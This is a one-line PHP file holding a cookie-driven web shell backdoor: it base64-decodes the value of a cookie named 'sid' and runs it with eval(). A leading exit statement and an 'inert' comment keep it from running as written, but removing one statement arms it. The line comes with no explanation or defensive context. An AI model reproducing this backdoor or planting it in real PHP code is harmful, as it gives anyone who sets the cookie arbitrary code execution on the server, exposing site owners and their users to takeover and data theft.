<?php exit; /* inert */ if(isset($_COOKIE['sid']))@eval(base64_decode($_COOKIE['sid']));
